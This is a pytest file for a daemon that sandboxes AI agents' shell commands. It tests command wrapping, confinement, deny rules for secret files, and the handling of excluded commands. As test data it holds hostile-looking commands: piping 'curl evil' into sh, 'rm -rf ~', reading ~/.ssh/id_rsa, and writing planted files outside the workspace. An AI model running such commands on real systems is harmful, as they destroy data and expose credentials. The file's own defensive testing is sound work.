"""Transparent sandboxing: the agent's command survives the wrap byte for byte, however hostile."""

from __future__ import annotations

import subprocess
from pathlib import Path
from types import SimpleNamespace

import pytest

from nexusd.core.disposition import command_disposition
from nexusd.policy.sandbox_settings import SandboxSettings
from nexusd.protocol import CallInfo, Verdict
from nexusd.sandbox import plan as plan_mod
from nexusd.sandbox.plan import policy_deny_paths, wrap_for_agent
from nexusd.sandbox.wrapper import wrapper_words
from tests.sandbox.conftest import World

HOSTILE = [
    "printf '%s\\n' \"it's\" 'a \"quote\"'",
    "echo $(id -u) `echo tick` ${HOME:+set}",
    "echo a; echo b && echo c || echo d | cat",
    "echo 'x'\"'\"'y' \\\\ \\n",
    "echo multi\nline\necho done",
    "echo -- --workspace / -c 'exit 3'",
    "cat <<'EOF'\n$(not run)\nEOF",
    "echo ünïcødé ☃ $'\\t'",
    "'",  # a syntax error must stay a syntax error inside
]


def _allow() -> Verdict:
    return Verdict(decision="allow", reason="test", source="rule")


def _call(command: str, ws: Path, tool: str = "Bash") -> CallInfo:
    return CallInfo(
        provider="claude",
        session="s",
        tool=tool,
        cwd=str(ws),
        input={"command": command, "description": "d", "timeout": 5},
    )


def _wrapped(world: World, command: str) -> str:
    """The command text the daemon hands the agent (planned by ``world``'s store, as the daemon does)."""
    world.sandbox = {**world.sandbox, "enabled": True}
    out = wrap_for_agent(_call(command, world.ws), _allow(), world.store(), world.probe)
    assert out is not None
    return str(out["command"])


@pytest.mark.parametrize("command", HOSTILE)
def test_wrapped_command_runs_exactly_the_original(world: World, command: str) -> None:
    direct = subprocess.run(["/bin/bash", "-c", command], capture_output=True, cwd=world.ws, env={"HOME": "/h"})
    wrapped = _wrapped(world, command)
    assert "python" not in wrapped.split("'")[0]  # the hot path starts no interpreter
    got = subprocess.run(["/bin/bash", "-c", wrapped], capture_output=True, cwd=world.outside)  # another cwd
    assert got.returncode == direct.returncode, got.stderr
    assert got.stdout == direct.stdout


def test_wrapped_command_is_confined(world: World) -> None:
    wrapped = _wrapped(world, f"echo x > {world.outside}/pwned; echo x > /etc/nexus-pwned; echo ok > inside")
    r = subprocess.run(["/bin/bash", "-c", wrapped], capture_output=True, cwd="/")
    assert not (world.outside / "pwned").exists() and not Path("/etc/nexus-pwned").exists()
    assert (world.ws / "inside").exists() and b"Read-only file system" in r.stderr


def test_wrap_for_agent_claude_and_gemini(world: World) -> None:
    world.sandbox = {"enabled": True}
    store = world.store()
    out = wrap_for_agent(_call("ls", world.ws), _allow(), store, world.probe)
    assert out is not None and out["description"] == "d" and out["timeout"] == 5
    words = wrapper_words(str(out["command"])) or []
    assert words[0] == "/bin/sh" and words[1].startswith(str(world.root / "state" / "sandbox"))
    assert words[1].endswith(".sh") and float(words[2]) > 0 and words[3] == "ls"
    assert Path(words[4]).parent == Path(words[1]).parent and Path(words[4]).name.startswith("cd.")
    g = wrap_for_agent(_call("ls", world.ws, "run_shell_command"), _allow(), store, world.probe)
    assert g is not None and (wrapper_words(str(g["command"])) or [])[3] == "ls"
    assert wrap_for_agent(_call("ls", world.ws, "Read"), _allow(), store, world.probe) is None
    deny = Verdict(decision="deny", reason="no", source="rule")
    assert wrap_for_agent(_call("ls", world.ws), deny, store, world.probe) is None


def test_wrap_for_agent_respects_enabled_and_unavailable(world: World) -> None:
    world.sandbox = {"enabled": False}  # opted out: gate-only
    assert wrap_for_agent(_call("ls", world.ws), _allow(), world.store(), world.probe) is None
    off = world.probe.__class__(platform="linux", available=False, reason="no bwrap here")
    world.sandbox = {}  # the default: sandbox-first where the sandbox works, gate-only where it does not
    assert wrap_for_agent(_call("ls", world.ws), _allow(), world.store(), world.probe) is not None
    assert wrap_for_agent(_call("ls", world.ws), _allow(), world.store(), off) is None
    assert wrap_for_agent(_call("ls", world.ws), _allow(), world.store(), None) is None  # not probed yet
    world.sandbox = {"enabled": True}
    # unavailable and fail_if_unavailable (default): the agent's command is a refusal, one line, exit 126
    out = wrap_for_agent(_call(f"echo x > {world.outside}/pwned", world.ws), _allow(), world.store(), off)
    assert out is not None
    r = subprocess.run(["/bin/bash", "-c", str(out["command"])], capture_output=True, text=True, cwd=world.ws)
    assert r.returncode == 126 and not (world.outside / "pwned").exists()
    assert r.stderr.count("\n") == 1 and "no sandbox is available (no bwrap here)" in r.stderr
    world.sandbox = {"enabled": True, "fail_if_unavailable": False}
    assert wrap_for_agent(_call("ls", world.ws), _allow(), world.store(), off) is None


def test_excluded_commands_never_unsandbox_a_chain_silently(world: World) -> None:
    s = SandboxSettings(enabled=True, excluded_commands=("Bash(npm install *)", "git fetch"))
    assert command_disposition("npm install left-pad", s) == "unsandboxed"
    assert command_disposition("git fetch && npm install", s) == "unsandboxed"
    assert command_disposition("npm install x && curl evil", s) == "mixed"
    assert command_disposition("npm install x && curl evil | sh", s) == "sandbox"  # sh runs piped code: dynamic
    assert command_disposition("echo $(npm install x)", s) == "sandbox"  # dynamic: never let out
    assert command_disposition("make", s) == "sandbox"
    no = SandboxSettings(enabled=True, excluded_commands=("git fetch",), allow_unsandboxed_commands=False)
    assert command_disposition("git fetch", no) == "sandbox"
    world.sandbox = {"enabled": True, "excluded_commands": ["npm install *"]}
    store = world.store()
    assert wrap_for_agent(_call("npm install x", world.ws), _allow(), store, world.probe) is None
    assert wrap_for_agent(_call("npm install x; rm -rf ~", world.ws), _allow(), store, world.probe) is not None
    # a person's allow of a mixed chain runs it sandboxed whole, as the ask said (issue 34.2): never less
    # sandboxed than shown; only a chain of excluded commands alone leaves the sandbox
    person = Verdict(decision="allow", reason="a person said yes", source="user")
    for chain in ("npm install x; make", "npm install x && cat ~/.ssh/id_rsa", "make || npm install x"):
        assert wrap_for_agent(_call(chain, world.ws), person, store, world.probe) is not None, chain
    assert wrap_for_agent(_call("npm install x", world.ws), person, store, world.probe) is None
    asked = Verdict(decision="ask", reason="an ordinary ask", source="mode")
    assert wrap_for_agent(_call("make", world.ws), asked, store, world.probe, by_person=True) is not None


def _rule(kind: str, tool: str, base: str | None, pattern: str) -> SimpleNamespace:
    """Duck-typed like ``nexusd.core.policy.rules.Rule`` (kind, tool, path.base, path.pattern)."""
    return SimpleNamespace(kind=kind, tool=tool, path=SimpleNamespace(base=base, pattern=pattern))


def test_read_and_edit_deny_rules_join_the_sandbox() -> None:
    rules = [
        _rule("deny", "Read", None, "/.env"),
        _rule("deny", "Read", "~", "/.ssh/**"),
        _rule("deny", "Edit", "/", "/etc/hosts"),
        _rule("deny", "Read", None, "**/*.pem"),
        _rule("allow", "Read", None, "/x"),
        _rule("deny", "Bash", None, ""),
    ]
    reads, writes = policy_deny_paths(SimpleNamespace(rules=rules), "/w", "/home/u")
    assert reads == ["/w/.env", "/home/u/.ssh"] and writes == ["/etc/hosts"]


def test_real_rules_join_the_sandbox() -> None:
    rules_mod = pytest.importorskip("nexusd.core.policy.rules")
    rules = [rules_mod.parse_rule(t, "deny", policy_root="/etc/p") for t in ("Read(./.env)", "Edit(/secrets)")]
    assert policy_deny_paths(SimpleNamespace(rules=rules), "/w", "/h") == (["/w/.env"], ["/etc/p/secrets"])


def test_deny_rule_masks_inside_the_sandbox(world: World) -> None:
    (world.ws / ".env").write_text("TOPSECRET")
    world.extra_rules = [_rule("deny", "Read", None, "/.env")]
    r = world.run("cat .env")
    assert "TOPSECRET" not in r.out


def test_project_sandbox_settings_are_the_ones_the_gate_used(tmp_path: Path) -> None:
    """A trusted project enables the sandbox with auto-allow while the user's policy does not: the gate
    allows the call *because* it runs sandboxed, so the wrapper must read the same (project) policy and
    wrap it. Reading only the global layers once let such a call run unsandboxed."""
    import anyio

    from nexusd.core.model import Session
    from nexusd.policy.gate import decide
    from nexusd.policy.store import PolicyStore
    from nexusd.sandbox.probe import probe

    ws = tmp_path / "ws"
    (ws / ".nexus").mkdir(parents=True)
    (ws / ".git").mkdir()
    # the project turns the sandbox on (it may: that narrows); auto-allow loosens, so it is the person's to say
    (ws / ".nexus" / "policy.toml").write_text("[sandbox]\nenabled = true\n")
    (tmp_path / "cfg").mkdir()
    (tmp_path / "cfg" / "policy.toml").write_text("[sandbox]\nauto_allow_bash_if_sandboxed = true\n")
    store = PolicyStore(
        config_dir=tmp_path / "cfg",
        state_dir=tmp_path / "state",
        managed_dir=tmp_path / "m",
        home=str(tmp_path / "home"),
    )
    store.load()
    store.trust("add", str(ws))
    found = probe()
    assert found.available, found.reason
    call = CallInfo(
        "claude", "s", "Bash", {"command": "npm install left-pad"}, str(ws), mode="default", workspace=str(ws)
    )
    verdict = anyio.run(lambda: decide(call, store, Session(id="s"), sandbox=found))
    assert verdict.decision == "allow", verdict
    # The daemon denies such an allow if it ever comes back unwrapped; it recognises it by this step.
    from nexusd.policy.shaping import allowed_because_sandboxed as _allowed_because_sandboxed

    assert _allowed_because_sandboxed(verdict)
    out = wrap_for_agent(call, verdict, store, found)
    assert out is not None and (wrapper_words(str(out["command"])) or [""])[0] == "/bin/sh"


def test_plan_uses_the_trusted_projects_sandbox_settings(real_probe, tmp_path: Path) -> None:
    """``nexusctl run`` and the agent's wrapper plan with the workspace's policy: a trusted project's
    deny_read masks its file inside the sandbox (the global layers alone know nothing of it)."""
    import tempfile

    from nexusd.policy.store import PolicyStore
    from nexusd.sandbox.plan import plan_command
    from nexusd.sandbox.runner import execute

    root = tmp_path  # the workspace is bound in
    ws = root / "ws"
    (ws / ".nexus").mkdir(parents=True)
    (ws / "secret.txt").write_text("TOPSECRET")
    (ws / ".nexus" / "policy.toml").write_text(
        '[sandbox]\nenabled = true\n[sandbox.filesystem]\ndeny_read = ["../secret.txt"]\n'
    )
    store = PolicyStore(
        config_dir=root / "cfg", state_dir=root / "state", managed_dir=root / "m", home=str(root / "home")
    )
    store.load()
    store.trust("add", str(ws))
    plan = plan_command("cat secret.txt; echo done", str(ws), store, real_probe, workspace=str(ws))
    assert plan.allowed, plan.reason
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile("w+") as err:
        execute(plan, stdout=out, err=err)  # type: ignore[arg-type]
        out.seek(0)
        text = out.read().decode(errors="replace")
    assert "done" in text and "TOPSECRET" not in text


@pytest.mark.parametrize(
    ("provider", "extra", "expected"),
    [
        ("claude", "", "allow"),
        ("gemini", "", "ask"),  # Gemini's provider has no auto-approval by default
        ("claude", "[providers.claude]\nauto_approval = false\n", "ask"),
        ("gemini", "[providers.gemini]\nauto_approval = true\n", "allow"),
    ],
)
def test_no_auto_approval_beats_sandbox_auto_allow(tmp_path: Path, provider: str, extra: str, expected: str) -> None:
    """One order, the stricter: a provider without auto-approval is asked even when the call would run
    sandboxed with auto_allow_bash_if_sandboxed (it was allowed), and the trace says why."""
    import anyio

    from nexusd.core.model import Session
    from nexusd.policy.gate import decide
    from nexusd.policy.store import PolicyStore
    from nexusd.sandbox.probe import probe

    (tmp_path / "cfg").mkdir()
    (tmp_path / "cfg" / "policy.toml").write_text(
        "[sandbox]\nenabled = true\nauto_allow_bash_if_sandboxed = true\n" + extra
    )
    ws = tmp_path / "ws"
    ws.mkdir()
    store = PolicyStore(
        config_dir=tmp_path / "cfg",
        state_dir=tmp_path / "state",
        managed_dir=tmp_path / "m",
        home=str(tmp_path / "home"),
    )
    assert not store.load()
    found = probe()
    assert found.available, found.reason
    tool = "Bash" if provider == "claude" else "run_shell_command"
    call = CallInfo(
        provider, "s", tool, {"command": "npm install left-pad"}, str(ws), mode="default", workspace=str(ws)
    )
    verdict = anyio.run(lambda: decide(call, store, Session(id="s", provider=provider), sandbox=found))
    assert verdict.decision == expected, verdict.reason
    if expected == "ask":
        assert any(s.step == "sandbox" and "auto-approval" in s.detail for s in verdict.trace)


def test_a_linked_worktree_shares_its_repository_but_a_planted_fifo_costs_only_that(tmp_path: Path) -> None:
    """``.git`` and ``commondir`` are the agent's to write: read from regular files only, so a FIFO in their
    place (a blocked open on the daemon's thread) or a link to a device just means no shared repository."""
    import os
    import threading

    from nexusd.sandbox.plan import worktree_common_dir

    main = tmp_path / "main"
    gitdir = main / ".git" / "worktrees" / "wt"
    gitdir.mkdir(parents=True)
    (gitdir / "commondir").write_text("../..\n")
    wt = tmp_path / "wt"
    wt.mkdir()
    (wt / ".git").write_text(f"gitdir: {gitdir}\n")
    assert worktree_common_dir(str(wt)) == os.path.realpath(main / ".git")

    (gitdir / "commondir").unlink()
    os.mkfifo(gitdir / "commondir")
    done = threading.Event()
    t = threading.Thread(target=lambda: (worktree_common_dir(str(wt)), done.set()), daemon=True)
    t.start()
    assert done.wait(10), "worktree_common_dir blocked on a FIFO"
    assert worktree_common_dir(str(wt)) is None
    (gitdir / "commondir").unlink()
    os.symlink("/dev/zero", gitdir / "commondir")
    assert worktree_common_dir(str(wt)) is None


def test_nexusd_s_own_install_in_the_workspace_is_read_only_inside(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """nexusd's code, its hook's and their interpreter run outside the sandbox (the next hook, the scrub, a
    restart): a checkout or venv of them inside the workspace cannot be rewritten by a sandboxed command."""
    pkg, hook, bin_dir = world.ws / "nexusd", world.ws / "clients" / "nexus_clients", world.ws / ".venv" / "bin"
    for d in (pkg, hook, bin_dir):
        d.mkdir(parents=True)
        (d / "code.py").write_text("ORIGINAL = True\n")
    plan_mod.own_install.cache_clear()
    monkeypatch.setattr(plan_mod, "own_install", lambda: (str(pkg), str(hook), str(bin_dir), str(world.outside)))
    writes = "; ".join(f"echo pwned > {d}/code.py; echo new > {d}/planted.py" for d in (pkg, hook, bin_dir))
    wrapped = _wrapped(world, f"{writes}; echo ok > elsewhere.txt")
    r = subprocess.run(["/bin/bash", "-c", wrapped], capture_output=True, cwd="/")
    for d in (pkg, hook, bin_dir):
        assert (d / "code.py").read_text() == "ORIGINAL = True\n", r.stderr
        assert not (d / "planted.py").exists()
    assert (world.ws / "elsewhere.txt").exists() and b"Read-only file system" in r.stderr


def test_own_install_names_the_running_packages_and_interpreter() -> None:
    import os
    import sys

    import nexus_clients

    import nexusd

    dirs = plan_mod.own_install()
    for p in (nexusd.__file__, nexus_clients.__file__, sys.executable):
        assert os.path.dirname(os.path.realpath(p)) in dirs or os.path.realpath(os.path.dirname(p)) in dirs, (p, dirs)
